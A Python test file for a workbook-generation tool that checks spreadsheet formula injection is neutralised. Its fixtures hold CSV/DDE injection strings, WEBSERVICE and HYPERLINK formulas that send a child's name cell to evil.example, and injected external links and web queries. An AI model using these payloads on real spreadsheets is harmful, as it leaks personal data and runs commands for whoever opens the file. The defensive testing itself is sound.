"""Hostile content in what we write: text typed by a person never runs in a workbook we make."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import re
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from cssw_docs import examples, pipeline
from cssw_docs.cli import cli
from cssw_docs.config import Settings
from cssw_docs.models import DocKind
from cssw_docs.oversight import report, sample
from cssw_docs.render import actions_csv
from cssw_docs.rubric import Rubric
from cssw_docs.store.db import connect as connect_ledger
from cssw_docs.workbook.generate import new_workbook, write_submission
from cssw_docs.workbook.literal import looks_like_formula
from cssw_docs.workbook.parse import read_workbook

LINK = '=HYPERLINK("http://evil.example/?leak=1","Click here")'
DDE = "=cmd|' /C calc'!A0"
# What an auditor might type (or paste) into any free-text cell, each a formula somewhere.
HOSTILE = (LINK, DDE, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\uff1d1+1", " =1+1")


def _hostile_ledger(folder: Path, rubric: Rubric) -> Path:
    """Write a ledger whose audits carry hostile text in every free-text field a report copies."""
    rows = []
    for i, row in enumerate(sample.audits(rubric, 40, seed=6)):
        pick = [HOSTILE[(i + k) % len(HOSTILE)] for k in range(6)]
        sub = dataclasses.replace(
            row.submission,
            audit_theme=pick[0],
            team=pick[1],
            auditor_name=pick[2],
            practitioner_name=pick[3],
            storyboard_title=pick[4] if row.submission.storyboard_title else "",
            actions=tuple(
                dataclasses.replace(a, action=pick[5], owner=pick[0])
                for a in row.submission.actions
            ),
        )
        rows.append(dataclasses.replace(row, submission=sub))
    db = folder / "ledger.sqlite3"
    conn = connect_ledger(db)
    sample.write(conn, rows)
    conn.close()
    return db


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path, data_only=False)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _lo_csv_values(soffice: str, source: Path, outdir: Path) -> set[str]:
    """Return every cell text LibreOffice shows for ``source``, all sheets, as CSV."""
    outdir.mkdir(parents=True, exist_ok=True)
    profile = outdir / "lo-profile"
    subprocess.run(
        [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
         "--outdir", str(outdir), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    values: set[str] = set()
    for sheet in outdir.glob(f"{source.stem}*.csv"):
        with sheet.open(encoding="utf-8", newline="") as fh:
            values.update(v for row in csv.reader(fh) for v in row)
    assert values, "LibreOffice wrote no CSV"
    return values


def _assert_kept_as_text(path: Path, soffice: str, outdir: Path) -> None:
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    written = {c.value for c in cells if isinstance(c.value, str)}
    for text in HOSTILE:
        assert text in written, f"{text!r} is missing from {path.name}"
    risky = [c for c in cells if isinstance(c.value, str) and c.value in HOSTILE]
    assert all(c.quotePrefix for c in risky), "formula-like text lacks Excel's quote prefix"
    shown = _lo_csv_values(soffice, path, outdir)
    for text in (LINK, DDE, "+1+1", "-1+1", "@SUM(1,1)", "\uff1d1+1"):
        assert text in shown, f"LibreOffice does not show {text!r} as typed"
    assert "Click here" not in shown  # the HYPERLINK was not evaluated


@pytest.mark.slow
def test_activity_report_stores_formula_like_text_as_text(
    tmp_path: Path, the_rubric: Rubric, soffice: str
) -> None:
    """Themes, teams, names and actions starting =, +, -, @ are text in the activity report."""
    db = _hostile_ledger(tmp_path, the_rubric)
    written = report.build(db, the_rubric, Settings(), start=dt.date(2026, 1, 1),
                           end=dt.date(2026, 12, 31), dest=tmp_path / "activity",
                           as_of=dt.date(2026, 9, 1), docx=False)  # fmt: skip
    _assert_kept_as_text(written.xlsx, soffice, tmp_path / "lo")


@pytest.mark.slow
def test_moderation_workbook_stores_formula_like_text_as_text(
    tmp_path: Path, the_rubric: Rubric, soffice: str
) -> None:
    """`moderation list --xlsx` writes the panel's workbook with hostile text as text."""
    state = tmp_path / "state"
    state.mkdir()
    _hostile_ledger(state, the_rubric)
    config = tmp_path / "cssw-docs.toml"
    config.write_text(f'[service]\nstate_dir = "{state.as_posix()}"\n', "utf-8")
    out = tmp_path / "panel.xlsx"
    result = CliRunner().invoke(
        cli, ["--config", str(config), "moderation", "list", "--xlsx", str(out)]
    )
    assert result.exit_code == 0, result.output
    cells = _cells(out)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert LINK in {c.value for c in cells}
    shown = _lo_csv_values(soffice, out, tmp_path / "lo")
    assert LINK in shown and DDE in shown and "Click here" not in shown


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", True),
        ("+44 20 7974 4444", True),
        ("-5", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r\n=1", True),
        ("\uff1dSUM(1)", True),  # full-width equals sign
        ("\uff0b1", True),
        ("\uff0d1", True),
        ("\uff20SUM(1)", True),
        ("   =1", True),
        ("Amara said = fine", False),
        ("", False),
        ("   ", False),
        ("\u2013 en dash", False),
    ],
)
def test_formula_like_text_is_recognised(text: str, expected: bool) -> None:
    """The one rule every writer uses says which text a spreadsheet could run."""
    assert looks_like_formula(text) is expected


# --- the marked copy ----------------------------------------------------------------------

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def _hostile_workbook(clean: bytes) -> bytes:
    """Return ``clean`` with formulas, links and connections that reach outside the workbook.

    The theme cell becomes a WEBSERVICE call sending the child's name cell away (still showing
    the theme), beside a HYPERLINK, a DDE formula and a formula into another workbook; a
    defined name, a dropdown and a colour rule call WEBSERVICE; a cell links to a web page;
    and the workbook carries an external workbook link, a DDE link and a web query.
    """
    with zipfile.ZipFile(io.BytesIO(clean)) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = parts["xl/worksheets/sheet2.xml"].decode()
    sheet, n = re.subn(
        r'<c r="C8"([^>]*) t="inlineStr"><is><t>([^<]*)</t></is></c>',
        r'<c r="C8"\1 t="str"><f>WEBSERVICE("http://evil.example/?n="&amp;C12)</f>'
        r"<v>\2</v></c>",
        sheet,
    )
    assert n == 1
    extra = (
        '<row r="900"><c r="H900" t="str"><f>HYPERLINK("http://evil.example/?n="&amp;C12,'
        '"Open")</f><v>Open</v></c><c r="I900"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>'
        '<c r="J900"><f>[1]Sheet1!$A$1</f><v>7</v></c></row>'
        '<row r="901"><c r="H901" t="inlineStr"><is><t>See the web</t></is></c></row>'
    )
    sheet = sheet.replace("</sheetData>", extra + "</sheetData>", 1)
    sheet = sheet.replace(
        "</dataValidations>",
        '<dataValidation type="list" sqref="H902"><formula1>WEBSERVICE("http://evil.example'
        '/dv")</formula1></dataValidation></dataValidations>',
        1,
    )
    sheet = sheet.replace(
        "<pageMargins",
        '<conditionalFormatting sqref="H900"><cfRule type="expression" priority="99">'
        '<formula>ISNUMBER(WEBSERVICE("http://evil.example/cf"))</formula></cfRule>'
        f'</conditionalFormatting><hyperlinks xmlns:r="{_R}"><hyperlink ref="H901" '
        'r:id="rIdEvil"/></hyperlinks><pageMargins',
        1,
    )
    parts["xl/worksheets/sheet2.xml"] = sheet.encode()
    parts["xl/worksheets/_rels/sheet2.xml.rels"] = (
        f'<Relationships xmlns="{_PKG}"><Relationship Id="rIdEvil" Type="{_R}/hyperlink" '
        'Target="http://evil.example/link" TargetMode="External"/></Relationships>'
    ).encode()
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{_MAIN}"><externalBook xmlns:r="{_R}" r:id="rId1"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1">'
        '<cell r="A1"><v>7</v></cell></row></sheetData></sheetDataSet></externalBook>'
        "</externalLink>"
    ).encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'<Relationships xmlns="{_PKG}"><Relationship Id="rId1" Type="{_R}/externalLinkPath" '
        'Target="file://evil.example/share/names.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    parts["xl/externalLinks/externalLink2.xml"] = (
        f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc">'
        '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    ).encode()
    parts["xl/connections.xml"] = (
        f'<connections xmlns="{_MAIN}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
        '<webPr url="http://evil.example/query"/></connection></connections>'
    ).encode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdX1" Type="{_R}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/>'
        f'<Relationship Id="rIdX2" Type="{_R}/externalLink" '
        'Target="externalLinks/externalLink2.xml"/>'
        f'<Relationship Id="rIdC" Type="{_R}/connections" Target="connections.xml"/>'
        "</Relationships>",
    )
    parts["xl/_rels/workbook.xml.rels"] = rels.encode()
    book = parts["xl/workbook.xml"].decode()
    book = book.replace(
        "</sheets>",
        f'</sheets><externalReferences xmlns:r="{_R}"><externalReference r:id="rIdX1"/>'
        '<externalReference r:id="rIdX2"/></externalReferences>',
        1,
    )
    book = book.replace(
        "<definedNames>",
        '<definedNames><definedName name="leak">[1]Sheet1!$A$1</definedName>'
        '<definedName name="beacon">WEBSERVICE("http://evil.example/name")</definedName>',
        1,
    )
    parts["xl/workbook.xml"] = book.encode()
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(
        "</Types>",
        '<Override PartName="/xl/externalLinks/externalLink1.xml" '
        f'ContentType="{_CT}.externalLink+xml"/>'
        '<Override PartName="/xl/externalLinks/externalLink2.xml" '
        f'ContentType="{_CT}.externalLink+xml"/>'
        f'<Override PartName="/xl/connections.xml" ContentType="{_CT}.connections+xml"/>'
        "</Types>",
    )
    parts["[Content_Types].xml"] = types.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


@pytest.mark.slow
def test_marked_copy_carries_values_only(tmp_path: Path, the_rubric: Rubric) -> None:
    """No formula, external or DDE link, connection or reaching name survives into the copy."""
    clean = tmp_path / "clean.xlsx"
    write_submission(examples.example("invalid-incomplete", the_rubric), clean, the_rubric)
    source = tmp_path / "hostile.xlsx"
    source.write_bytes(_hostile_workbook(clean.read_bytes()))
    with zipfile.ZipFile(source) as z:  # the hostile parts really are there to remove
        before = b"".join(z.read(n) for n in z.namelist())
    assert b"WEBSERVICE" in before and b"ddeLink" in before and b"<f>" in before

    checked = pipeline.check(source, the_rubric, Settings())
    assert checked.submission is not None and not checked.ok
    written = pipeline.write_rejection(checked, tmp_path / "rejected", "job-1")
    marked = next(a.path for a in written if a.kind is DocKind.MARKED_WORKBOOK)

    with zipfile.ZipFile(marked) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    assert [n for n in parts if "externalLink" in n or "connections" in n] == []
    everything = b"".join(parts.values())
    for needle in (b"evil.example", b"WEBSERVICE", b"HYPERLINK", b"cmd|", b"ddeLink", b"<f>"):
        assert needle not in everything, needle
    assert not re.search(rb"<f[ >]", everything)
    book = openpyxl.load_workbook(marked)
    assert "leak" not in book.defined_names and "beacon" not in book.defined_names
    assert book["Audit details"]["C8"].value == checked.submission.audit_theme
    assert book["Audit details"]["H900"].value == "Open"  # the value it showed, not the formula
    # The auditor can fix the copy and drop it in again: it reads as the same submission.
    assert read_workbook(marked, the_rubric) == checked.submission


@pytest.mark.slow
def test_template_has_no_formulas_of_its_own(tmp_path: Path, the_rubric: Rubric) -> None:
    """The marked copy drops every formula; that is right only while the template has none."""
    path = new_workbook(tmp_path / "blank.xlsx", the_rubric)
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(re.search(rb"<f[ >]", s) for s in sheets)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"),
        ("  =1+1", "'  =1+1"),
        ("=1+1", "'=1+1"),
        ("-1+1", "'-1+1"),
        ("- a point made in supervision", "- a point made in supervision"),
        ("Plain words", "Plain words"),
    ],
)
def test_supervision_csv_uses_the_same_rule(text: str, shown: str) -> None:
    """The supervision CSV quotes formula-like text by the same rule, full-width forms too."""
    action = {"action": text, "section": "Assessment", "owner": "Tom", "due_date": "",
              "measure": "ok"}  # fmt: skip
    context = {"audit_ref": "CSSW-2026-0142", "child": {"mosaic_id": "M1"}, "actions": [action]}
    rows = list(csv.reader(io.StringIO(actions_csv(context).decode("utf-8-sig"))))
    assert rows[1][rows[0].index("Action")] == shown
